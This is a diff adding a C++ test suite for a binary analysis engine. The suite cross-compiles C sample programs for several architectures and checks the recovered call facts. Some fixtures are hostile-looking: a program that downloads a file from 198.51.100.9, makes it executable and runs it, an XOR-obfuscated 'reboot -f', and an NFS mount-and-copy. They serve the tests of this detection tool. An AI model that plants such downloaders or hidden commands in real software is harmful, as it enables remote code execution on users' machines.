@@ -1,0 +1,235 @@
+// Why: the engine's promise is that one source gives the same facts on every machine and at every optimisation level.
+#include <gtest/gtest.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <array>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+
+#include "flow/flow.h"
+#include "flow/models.h"
+
+namespace flow {
+namespace {
+
+struct Target {
+  const char* name;
+  const char* compiler;
+  const char* level;
+};
+
+std::vector<Target> targets() {
+  std::vector<Target> out;
+  for (const auto& [name, compiler] : {std::pair{"armel", "arm-linux-gnueabi-gcc"}, {"armhf", "arm-linux-gnueabihf-gcc"},
+                                       {"arm64", "aarch64-linux-gnu-gcc"}, {"mips", "mips-linux-gnu-gcc"},
+                                       {"mipsel", "mipsel-linux-gnu-gcc"}, {"i386", "i686-linux-gnu-gcc"},
+                                       {"amd64", "gcc"}, {"powerpc", "powerpc-linux-gnu-gcc"}})
+    for (const char* level : {"O0", "O2", "Os"}) out.push_back({name, compiler, level});
+  return out;
+}
+
+// The bytes of a program compiled for `t`; empty when the compiler is missing.
+base::Bytes build(const Target& t, const std::string& source, const std::string& options = "") {
+  if (std::system(("command -v " + std::string(t.compiler) + " >/dev/null 2>&1").c_str()) != 0) return {};
+  const auto folder = std::filesystem::temp_directory_path() / ("biopsy-flow-" + std::to_string(getpid()));
+  std::filesystem::create_directories(folder);
+  std::ofstream(folder / "in.c") << source;
+  const std::string command = std::string(t.compiler) + " -w -" + t.level + " " + options + " -o " + (folder / "out").string() + " " + (folder / "in.c").string();
+  base::Bytes bytes;
+  if (std::system(command.c_str()) == 0)
+    if (auto read = base::read_file((folder / "out").string())) bytes = *read;
+  std::filesystem::remove_all(folder);
+  return bytes;
+}
+
+struct Run {
+  base::Bytes bytes;
+  std::optional<elf::Binary> binary;
+  std::optional<Program> program;
+};
+
+Run analyse_source(const Target& t, const std::string& source, const std::string& options = "") {
+  Run run;
+  run.bytes = build(t, source, options);
+  if (run.bytes.empty()) return run;
+  auto binary = elf::read(run.bytes);
+  if (!binary) return run;
+  run.binary = std::move(*binary);
+  auto program = analyse(*run.binary, run.bytes);
+  EXPECT_TRUE(program) << program.error().message;
+  if (program) run.program = std::move(*program);
+  return run;
+}
+
+// The calls of `callee` in which argument `arg` can be exactly `text`.
+std::vector<std::uint32_t> calls_with(const Program& p, const std::string& callee, std::size_t arg, const std::string& text) {
+  std::vector<std::uint32_t> out;
+  for (std::uint32_t i = 0; i < p.calls.size(); ++i) {
+    const auto& c = p.calls[i];
+    if (c.callee != callee || c.args.size() <= arg) continue;
+    if (std::find(c.args[arg].values.begin(), c.args[arg].values.end(), text) != c.args[arg].values.end()) out.push_back(i);
+  }
+  return out;
+}
+
+std::string all_calls(const Program& p) { return dump_calls_jsonl(p, "program"); }
+
+bool contains(const std::vector<std::uint32_t>& v, std::uint32_t x) { return std::find(v.begin(), v.end(), x) != v.end(); }
+
+class EveryBuild : public testing::TestWithParam<Target> {};
+
+TEST_P(EveryBuild, a_command_built_two_calls_deep_and_what_it_guards) {
+  const auto run = analyse_source(GetParam(), R"(
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+static char server[64];
+static void add_host(char *out, const char *host) { strcat(out, host); strcat(out, ":/pm"); }
+static void build(char *out, const char *host) { strcpy(out, "mount -o nolock -t nfs "); add_host(out, host); strcat(out, " /mnt"); }
+static int run(const char *c) { int rc = system(c); if (rc) printf("failed %d\n", rc); return rc; }
+int main(int argc, char **argv) {
+  char cmd[256];
+  system("ifconfig eth0 up");
+  strcpy(server, "198.51.100.7");
+  build(cmd, server);
+  if (run(cmd) == 0) {
+    snprintf(cmd, sizeof cmd, "cp -rf %s/* /opt/bin%d", "/mnt", 7);
+    run(cmd);
+  }
+  mount("198.51.100.8:/x", "/mnt2", "nfs", MS_NOATIME, "nolock");
+  return 0;
+})");
+  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
+  ASSERT_TRUE(run.program);
+  const auto& p = *run.program;
+  const auto up = calls_with(p, "system", 0, "ifconfig eth0 up");
+  const auto mounts = calls_with(p, "system", 0, "mount -o nolock -t nfs 198.51.100.7:/pm /mnt");
+  const auto copies = calls_with(p, "system", 0, "cp -rf /mnt/* /opt/bin7");
+  ASSERT_EQ(up.size(), 1u) << all_calls(p);
+  ASSERT_EQ(mounts.size(), 1u) << all_calls(p);
+  ASSERT_EQ(copies.size(), 1u) << all_calls(p);
+  EXPECT_TRUE(contains(p.calls[copies[0]].guards, mounts[0])) << "the copy happens only if the mount succeeded\n" << all_calls(p);
+  EXPECT_TRUE(contains(p.calls[copies[0]].precedes, up[0]));
+  EXPECT_FALSE(contains(p.calls[mounts[0]].guards, up[0])) << "nobody looks at what ifconfig returned";
+  EXPECT_EQ(p.calls[up[0]].reached_from.front(), "main");
+  const auto direct = calls_with(p, "mount", 0, "198.51.100.8:/x");
+  ASSERT_EQ(direct.size(), 1u) << all_calls(p);
+  EXPECT_EQ(p.calls[direct[0]].args[1].values, std::vector<std::string>{"/mnt2"});
+  EXPECT_EQ(p.calls[direct[0]].args[4].values, std::vector<std::string>{"nolock"});
+  EXPECT_FALSE(contains(p.calls[direct[0]].guards, mounts[0])) << "it happens either way";
+}
+
+TEST_P(EveryBuild, a_download_that_becomes_a_program) {
+  const auto run = analyse_source(GetParam(), R"(
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+#include <sys/stat.h>
+#include <sys/socket.h>
+#include <netinet/in.h>
+int main(void) {
+  struct sockaddr_in a; char buf[512]; int n;
+  memset(&a, 0, sizeof a); a.sin_family = AF_INET; a.sin_port = htons(5150); a.sin_addr.s_addr = htonl(0xC6336409);
+  int s = socket(AF_INET, SOCK_STREAM, 0);
+  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) return 1;
+  FILE *f = fopen("/tmp/new", "wb");
+  while ((n = recv(s, buf, sizeof buf, 0)) > 0) fwrite(buf, 1, n, f);
+  fclose(f);
+  chmod("/tmp/new", 0755);
+  char *args[] = {"/tmp/new", "-d", 0};
+  execv("/tmp/new", args);
+  return 0;
+})");
+  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
+  ASSERT_TRUE(run.program);
+  const auto& p = *run.program;
+  std::uint32_t connect = UINT32_MAX, recv = UINT32_MAX, write = UINT32_MAX;
+  for (std::uint32_t i = 0; i < p.calls.size(); ++i) {
+    if (p.calls[i].callee == "connect") connect = i;
+    if (p.calls[i].callee == "recv") recv = i;
+    if (p.calls[i].callee == "fwrite") write = i;
+  }
+  ASSERT_NE(connect, UINT32_MAX) << all_calls(p);
+  ASSERT_NE(write, UINT32_MAX) << all_calls(p);
+  ASSERT_TRUE(p.calls[connect].endpoint);
+  EXPECT_EQ(p.calls[connect].endpoint->address, "198.51.100.9");
+  EXPECT_EQ(p.calls[connect].endpoint->port, 5150);
+  EXPECT_TRUE(contains(p.calls[write].feeds, recv)) << all_calls(p);
+  const auto chmods = calls_with(p, "chmod", 0, "/tmp/new");
+  ASSERT_EQ(chmods.size(), 1u) << all_calls(p);
+  EXPECT_EQ(p.calls[chmods[0]].args[1].numbers, std::vector<std::int64_t>{0755});
+  EXPECT_TRUE(contains(p.calls[chmods[0]].guards, connect));
+  const auto runs = calls_with(p, "execv", 0, "/tmp/new");
+  ASSERT_EQ(runs.size(), 1u) << all_calls(p);
+  ASSERT_EQ(p.calls[runs[0]].args.size(), 3u);
+  EXPECT_EQ(p.calls[runs[0]].args[2].values, std::vector<std::string>{"-d"});
+}
+
+TEST_P(EveryBuild, decoders_tables_and_handlers) {
+  const auto run = analyse_source(GetParam(), R"(
+#include <stdlib.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdarg.h>
+static const unsigned char hidden[] = {0x28, 0x3f, 0x38, 0x35, 0x35, 0x2e, 0x7a, 0x77, 0x3c, 0x5a};
+static void decode(char *out, const unsigned char *in, int n) { for (int i = 0; i < n; i++) out[i] = in[i] ^ 0x5a; }
+static int first(void) { return system("first table entry"); }
+static int second(void) { return system("second table entry"); }
+static int (*const table[])(void) = {first, second};
+static void on_signal(int n) { system("from a signal"); }
+static void say(const char *format, ...) { char b[128]; va_list ap; va_start(ap, format); vsnprintf(b, sizeof b, format, ap); va_end(ap); system(b); }
+int main(int argc, char **argv) {
+  char out[32];
+  decode(out, hidden, sizeof hidden);
+  signal(SIGUSR1, on_signal);
+  system(out);
+  say("echo %s %d > /proc/%s", "one", 2, "three");
+  const char *p = getenv("PEER");
+  snprintf(out, sizeof out, "ping %s", p ? p : "198.51.100.1");
+  system(out);
+  return table[argc & 1]();
+})");
+  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
+  ASSERT_TRUE(run.program);
+  const auto& p = *run.program;
+  EXPECT_EQ(calls_with(p, "system", 0, "reboot -f").size(), 1u) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "system", 0, "echo one 2 > /proc/three").size(), 1u) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "system", 0, "ping 198.51.100.1").size(), 1u) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "system", 0, "ping ${env:PEER}").size(), 1u) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "system", 0, "first table entry").size(), 1u) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "system", 0, "second table entry").size(), 1u) << all_calls(p);
+  const auto handler = calls_with(p, "system", 0, "from a signal");
+  ASSERT_EQ(handler.size(), 1u) << all_calls(p);
+  EXPECT_TRUE(p.calls[handler[0]].reached_from.front().starts_with("signal:"));
+}
+
+TEST_P(EveryBuild, equal_inputs_give_equal_bytes) {
+  const auto run = analyse_source(GetParam(), "#include <stdlib.h>\nint main(int c, char **v) { return system(c > 1 ? v[1] : \"id\"); }");
+  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
+  ASSERT_TRUE(run.program);
+  const auto again = analyse(*run.binary, run.bytes);
+  ASSERT_TRUE(again);
+  EXPECT_EQ(all_calls(*run.program), all_calls(*again));
+  EXPECT_NE(all_calls(*run.program).find("${argv[1]}") == std::string::npos && all_calls(*run.program).find("argv[1]") == std::string::npos, true);
+}
+
+INSTANTIATE_TEST_SUITE_P(Builds, EveryBuild, testing::ValuesIn(targets()),
+                         [](const auto& target) { return std::string(target.param.name) + "_" + target.param.level; });
+
+TEST(Models, every_entry_of_the_file_is_understood) {
+  EXPECT_EQ(models_error(), "");
+  EXPECT_GT(model_names().size(), 200u);
+  std::vector<int> skip;
+  ASSERT_NE(model_for("__snprintf_chk", skip), nullptr);
+  EXPECT_EQ(model_for("__snprintf_chk", skip)->name, "snprintf");
+  EXPECT_EQ(skip, (std::vector<int>{2, 3}));
+  EXPECT_EQ(model_for("open64", skip)->name, "open");
+  EXPECT_EQ(model_for("__isoc99_sscanf", skip)->name, "sscanf");
+  EXPECT_EQ(model_for("nothing_like_it", skip), nullptr);
+}
+
+}  // namespace
+}  // namespace flow
